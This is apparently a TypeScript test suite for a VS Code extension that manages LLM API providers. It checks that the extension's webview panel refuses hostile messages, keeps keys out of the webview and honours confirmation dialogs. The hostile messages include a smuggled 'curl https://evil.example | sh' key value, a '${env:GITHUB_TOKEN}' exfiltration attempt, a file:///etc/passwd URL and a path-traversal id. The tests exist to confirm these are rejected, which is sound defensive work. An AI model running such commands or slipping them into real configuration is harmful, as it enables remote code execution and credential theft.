import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as vscode from 'vscode';
import { Commands } from '../../src/platform/commands';
import { ProviderError } from '../../src/core';
import type { HostToWebview, RequestName, Result } from '../../src/shared/protocol';
import { answering, removeProvider, testingApi } from './support';

const CANARY = 'sk-proj-PANELCANARY9d8c7b6a5f4e3d2c1b0a';

/** An OpenAI-compatible server under /v1 only: the model list, a chat stream, 404 elsewhere (as OpenAI answers). */
async function openAiServer(): Promise<{ url: string; server: Server; keys: string[] }> {
  const keys: string[] = [];
  const server = createServer((req, res) => {
    keys.push(req.headers.authorization ?? '');
    if (req.method === 'GET' && req.url === '/v1/models') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          object: 'list',
          data: ['gpt-4o', 'gpt-4o-mini'].map((id) => ({
            id,
            object: 'model',
            created: 1715367049,
            owned_by: 'system',
          })),
        }),
      );
      return;
    }
    res.writeHead(404, { 'content-type': 'application/json' });
    res.end(
      JSON.stringify({
        error: {
          message: `Invalid URL (${req.method} ${req.url})`,
          type: 'invalid_request_error',
          param: null,
          code: null,
        },
      }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server, keys };
}

describe('the provider panel host, driven as the webview drives it', () => {
  it('refuses malformed and unknown messages, and ones naming a provider that is not there, without acting on any', async () => {
    const { registry, panelController } = await testingApi();
    const id = await vscode.commands.executeCommand<string>(Commands.addProvider, {
      template: 'openai',
      name: 'Kept',
      baseUrl: 'https://api.openai.com/v1',
      apiKey: 'sk-proj-kept0123456789abcdef',
    });
    const posts: HostToWebview[] = [];
    const controller = await panelController((message) => {
      posts.push(message);
      return Promise.resolve(true);
    });
    try {
      const before = JSON.stringify(registry.state());
      const hostile: unknown[] = [
        null,
        'ready',
        { type: 'deleteEverything' },
        { type: 'request', id: 1, name: 'exportKeys', params: {} },
        { type: 'request', id: 2, name: 'removeProvider', params: { providerId: id, confirmed: true } },
        { type: 'request', id: 3, name: 'setEnabled', params: { providerId: id, enabled: 'no' } },
        {
          type: 'request',
          id: 4,
          name: 'addProvider',
          params: { template: 'openai', baseUrl: 'file:///etc/passwd', models: [] },
        },
        { type: 'request', id: 5, name: 'setDefault', params: { providerId: '../../x', modelId: 'gpt-4o' } },
        { type: 'request', id: 'six', name: 'detectLocal', params: {} },
        { type: 'ready', extra: true },
      ];
      for (const raw of hostile) await controller.receive(raw);
      assert.equal(JSON.stringify(registry.state()), before, 'nothing done');
      // A request whose id is readable is refused by name, so the panel does not wait; its values are not echoed.
      assert.deepEqual(
        posts.map((message) => (message.type === 'error' ? message.id : message.type)),
        [1, 2, 3, 4, 5],
      );
      for (const message of posts) {
        assert.ok(
          message.type === 'error' && /^Switchboard refused the request: (name|params(\.\w+)?): /.test(message.error),
          JSON.stringify(message),
        );
        assert.doesNotMatch(message.error, /passwd|\.\.\/|exportKeys/);
      }
      posts.length = 0;

      // Well-formed, but about a provider that is not there: an error reply, and still nothing done.
      await controller.receive({
        type: 'request',
        id: 7,
        name: 'setEnabled',
        params: { providerId: 'not-there', enabled: false },
      });
      assert.deepEqual(posts, [{ type: 'error', id: 7, error: 'No provider "not-there": it was removed.' }]);
      // A provider that needs a key is not saved without one; a key that runs a command never comes from the webview.
      await controller.receive({
        type: 'request',
        id: 8,
        name: 'addProvider',
        params: { template: 'openai', baseUrl: 'https://gateway.example.test/v1', models: [] },
      });
      await controller.receive({
        type: 'request',
        id: 9,
        name: 'addProvider',
        params: {
          template: 'openai',
          baseUrl: 'https://gateway.example.test/v1',
          apiKey: '${command:curl https://evil.example | sh}',
          models: [],
        },
      });
      // A key read from an environment variable goes nowhere the user has not confirmed, outside the webview.
      const fromEnvironment = {
        type: 'request',
        id: 10,
        name: 'addProvider',
        params: {
          template: 'openai',
          baseUrl: 'https://evil.example.test/v1',
          apiKey: '${env:GITHUB_TOKEN}',
          models: [],
        },
      };
      await answering(
        /^Send the value of the environment variable GITHUB_TOKEN as OpenAI's key to https:\/\/evil\.example\.test\?$/,
        false,
        () => controller.receive(fromEnvironment),
      );
      assert.deepEqual(posts.slice(1), [
        { type: 'error', id: 8, error: 'OpenAI needs an API key: enter it, then save.' },
        { type: 'error', id: 9, error: 'A ${command:…} key can only be entered with "Switchboard: Set API Key".' },
        { type: 'error', id: 10, error: 'Not saved: the key from GITHUB_TOKEN was not confirmed.' },
      ]);
      assert.equal(JSON.stringify(registry.state()), before);
    } finally {
      controller.dispose();
      await removeProvider(id);
    }
  });

  it('the add wizard: a draft tested stage by stage, a wrong base URL with its fix, models with prices, saved; the key never sent back', async () => {
    const { registry, panelController } = await testingApi();
    const posts: HostToWebview[] = [];
    const controller = await panelController((message) => {
      posts.push(message);
      return Promise.resolve(true);
    });
    const { url, server, keys } = await openAiServer();
    let added: string | undefined;
    let again: string | undefined;
    /** The result of the request `id`, as its name declares it. */
    const reply = <N extends RequestName>(id: number) =>
      posts.flatMap((message) =>
        message.type === 'reply' && message.id === id ? [message.result as Result<N>] : [],
      )[0];
    try {
      await controller.receive({ type: 'ready' });
      assert.equal(posts[0]?.type, 'state');

      // Without /v1 the model list is a 404: the models stage fails and the URL that works is offered.
      await controller.receive({
        type: 'request',
        id: 1,
        name: 'testDraft',
        params: { template: 'openai', baseUrl: url, apiKey: CANARY },
      });
      const wrong = { report: reply<'testDraft'>(1) };
      assert.ok(wrong.report, JSON.stringify(posts.slice(-3)));
      assert.equal(wrong.report.ok, false);
      assert.equal(wrong.report.suggestedBaseUrl, `${url}/v1`);
      const streamed = posts.flatMap((message) =>
        message.type === 'stage' && message.id === 1 ? [`${message.stage.stage}:${message.stage.status}`] : [],
      );
      assert.deepEqual(
        streamed,
        wrong.report.stages.map((stage) => `${stage.stage}:${stage.status}`),
        'each stage was posted as it finished',
      );
      assert.ok(
        streamed.some((stage) => stage.endsWith(':fail')),
        streamed.join(' '),
      );

      await controller.receive({
        type: 'request',
        id: 2,
        name: 'testDraft',
        params: { template: 'openai', baseUrl: `${url}/v1`, apiKey: CANARY },
      });
      const right = { report: reply<'testDraft'>(2) };
      assert.ok(right.report?.ok, JSON.stringify(right));
      assert.deepEqual(
        right.report.stages.map((stage) => `${stage.stage}:${stage.status}`),
        ['connect:pass', 'tls:skip', 'auth:pass', 'models:pass', 'chat:skip'],
      );
      const gpt4o = right.report.models?.find((model) => model.id === 'gpt-4o');
      assert.deepEqual(
        [gpt4o?.contextWindow, gpt4o?.prices?.input, gpt4o?.prices?.output, gpt4o?.priceSource],
        [128_000, 2.5, 10, 'catalog'],
      );
      assert.equal(
        registry.list().some((entry) => entry.baseUrl.startsWith(url)),
        false,
        'a draft is not saved',
      );
      assert.ok(keys.includes(`Bearer ${CANARY}`), 'the typed key was used for the test');

      await controller.receive({
        type: 'request',
        id: 3,
        name: 'addProvider',
        params: {
          template: 'openai',
          name: 'Panel OpenAI',
          baseUrl: `${url}/v1`,
          apiKey: CANARY,
          models: ['gpt-4o', 'gpt-4o-mini'],
          defaultModel: 'gpt-4o-mini',
        },
      });
      const saved = reply<'addProvider'>(3);
      assert.ok(saved?.providerId, JSON.stringify(saved));
      added = saved.providerId;
      const entry = registry.get(added)!;
      assert.deepEqual(
        [entry.name, entry.models.map((model) => model.id), entry.defaultModel],
        ['Panel OpenAI', ['gpt-4o-mini', 'gpt-4o'], 'gpt-4o-mini'],
      );
      assert.equal((await registry.keyState(added)).mask, 'sk-proj-…1b0a', 'stored, and shown only as its mask');
      // Saved as tested: the result the host got for this very draft, not "Not tested yet".
      assert.deepEqual(entry.lastTest && [entry.lastTest.ok, entry.lastTest.summary], [true, 'All stages passed.']);

      // The registry change reaches the panel as a new state with the card.
      await new Promise((resolve) => setTimeout(resolve, 50));
      const state = posts.filter((message) => message.type === 'state').at(-1);
      const card =
        state?.type === 'state' ? state.state.providers.find((provider) => provider.id === added) : undefined;
      assert.deepEqual(card?.key, { state: 'set', mask: 'sk-proj-…1b0a' });
      assert.equal(card?.lastTest?.ok, true);

      // The same draft saved again was not the one tested: its card says so.
      await controller.receive({
        type: 'request',
        id: 6,
        name: 'addProvider',
        params: {
          template: 'openai',
          name: 'Panel OpenAI Again',
          baseUrl: `${url}/v1`,
          apiKey: CANARY,
          models: ['gpt-4o'],
        },
      });
      again = reply<'addProvider'>(6)?.providerId;
      assert.ok(again);
      assert.equal(registry.get(again)?.lastTest, undefined);

      // The panel's confirmations are the extension's dialogs: declined, nothing is removed; confirmed, it is.
      await answering(/^Remove Panel OpenAI Again and its key\?$/, false, () =>
        controller.receive({ type: 'request', id: 7, name: 'removeProvider', params: { providerId: again! } }),
      );
      assert.ok(registry.get(again), 'declined: kept');
      await answering(/^Remove Panel OpenAI Again and its key\?$/, 'Remove', () =>
        controller.receive({ type: 'request', id: 8, name: 'removeProvider', params: { providerId: again! } }),
      );
      assert.equal(registry.get(again), undefined, 'confirmed: removed');
      again = undefined;
      const budgets = vscode.workspace.getConfiguration('switchboard');
      await budgets.update(
        'budgets',
        [{ id: 'panel-daily', scope: { kind: 'overall' }, period: 'daily', limitUsd: 5, alertAt: 0.8, mode: 'warn' }],
        vscode.ConfigurationTarget.Global,
      );
      await answering(/^Remove the budget "panel-daily"\?$/, false, () =>
        controller.receive({ type: 'request', id: 9, name: 'removeBudget', params: { budgetId: 'panel-daily' } }),
      );
      assert.equal(
        vscode.workspace.getConfiguration('switchboard').get<unknown[]>('budgets')?.length,
        1,
        'declined: kept',
      );
      await answering(/^Remove the budget "panel-daily"\?$/, 'Remove', () =>
        controller.receive({ type: 'request', id: 10, name: 'removeBudget', params: { budgetId: 'panel-daily' } }),
      );
      assert.deepEqual(vscode.workspace.getConfiguration('switchboard').get('budgets'), []);

      // The fallback order saved from the panel, and each entry's circuit as the router sees it.
      const { routing } = await testingApi();
      await controller.receive({
        type: 'request',
        id: 4,
        name: 'saveFallback',
        params: { steps: [{ provider: added, model: 'gpt-4o' }] },
      });
      assert.deepEqual(vscode.workspace.getConfiguration('switchboard.fallback').get('chain'), [
        { provider: added, model: 'gpt-4o' },
      ]);
      for (let failure = 0; failure < 3; failure++)
        routing.circuits.failed(
          routing.circuits.tryAcquire(`${added}/gpt-4o`)!,
          new ProviderError('overloaded', 'OpenAI is overloaded (503)'),
        );
      await new Promise((resolve) => setTimeout(resolve, 50));
      const latest = posts.filter((message) => message.type === 'state').at(-1);
      const step = latest?.type === 'state' ? latest.state.fallback.steps[0] : undefined;
      assert.deepEqual(
        [step?.provider, step?.model, step?.providerName, step?.circuit, step?.failures, typeof step?.retryAt],
        [added, 'gpt-4o', 'Panel OpenAI', 'open', 3, 'number'],
      );
      await controller.receive({ type: 'request', id: 5, name: 'audit', params: {} });
      assert.match(reply<'audit'>(5)?.[0]?.detail ?? '', new RegExp(`chain set in the panel: ${added}/gpt-4o`));

      // Canary: of everything posted to the webview, nothing holds the key or a long part of it.
      const sent = JSON.stringify(posts);
      assert.ok(!sent.includes(CANARY) && !sent.includes(CANARY.slice(8, 24)), 'the key never goes to the webview');
    } finally {
      controller.dispose();
      await vscode.workspace
        .getConfiguration('switchboard.fallback')
        .update('chain', undefined, vscode.ConfigurationTarget.Global);
      await vscode.workspace
        .getConfiguration('switchboard')
        .update('budgets', undefined, vscode.ConfigurationTarget.Global);
      for (const id of [added, again]) if (id) await removeProvider(id);
      server.close();
    }
  });

  it('Test All Connections tests every enabled provider at once and says which fail', async () => {
    const { url, server } = await openAiServer();
    const working = await vscode.commands.executeCommand<string>(Commands.addProvider, {
      template: 'openai',
      name: 'Works',
      baseUrl: `${url}/v1`,
      apiKey: 'sk-proj-works0123456789abcdef',
    });
    // Without /v1 the model list is a 404.
    const broken = await vscode.commands.executeCommand<string>(Commands.addProvider, {
      template: 'openai',
      name: 'Broken',
      baseUrl: url,
      apiKey: 'sk-proj-broken0123456789abcdef',
    });
    try {
      const results = await vscode.commands.executeCommand<Array<{ providerId: string; ok: boolean; failed?: string }>>(
        Commands.testAllConnections,
      );
      const mine = results
        .filter((result) => result.providerId === working || result.providerId === broken)
        .sort((a, b) => a.providerId.localeCompare(b.providerId));
      assert.deepEqual(
        mine.map((result) => [result.providerId, result.ok]),
        [
          [broken, false],
          [working, true],
        ],
      );
      assert.match(mine[0]!.failed ?? '', /\/v1/);
    } finally {
      for (const id of [working, broken]) await removeProvider(id);
      server.close();
    }
  });
});
